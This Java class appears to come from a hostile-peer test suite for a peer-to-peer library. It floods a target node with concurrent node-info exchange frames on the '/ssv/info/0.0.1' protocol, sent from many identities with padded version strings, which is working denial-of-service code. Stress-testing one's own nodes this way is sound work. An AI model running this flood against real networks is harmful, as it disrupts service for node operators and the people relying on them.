package org.minip2p.attacks.hostile;

import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.function.IntFunction;

/** Exchanges of node info, eight at a time on each connection, with different info each time. */
final class NodeInfoFlood {
    private static final int AT_ONCE = 8;
    private static final int ENVELOPES = 16;
    private static final int VERSION_CHARACTERS = 200;
    private static final byte[] PROPOSAL = Frames.proposal("/ssv/info/0.0.1");

    private NodeInfoFlood() {}

    static void run(Battlefield field, int peers, IntFunction<Identity> identities) throws InterruptedException {
        field.strike(peers, thread -> {
            Identity identity = identities.apply(thread);
            byte[][] envelopes = new byte[ENVELOPES][];
            for (int i = 0; i < ENVELOPES; i++) {
                envelopes[i] = Envelopes.nodeInfo(identity.key(), "v" + i + "x".repeat(VERSION_CHARACTERS));
            }
            Semaphore free = new Semaphore(AT_ONCE);
            Peer.FrameListener ends = (type, flags, stream, length) -> {
                if ((flags & (Frames.FIN | Frames.RST)) != 0) {
                    free.release();
                }
            };
            try (Peer peer = field.peer(Battlefield.address(thread), identity, ends)) {
                for (long i = 0; !field.isOver() && !peer.hasEnded(); i++) {
                    if (free.tryAcquire(1, TimeUnit.SECONDS)) {
                        peer.send(Frames.data(
                                Frames.SYN | Frames.FIN,
                                2 * i + 1,
                                Frames.join(PROPOSAL, envelopes[(int) (i % ENVELOPES)])));
                        field.tally().struck(1);
                    }
                }
            }
        });
    }
}
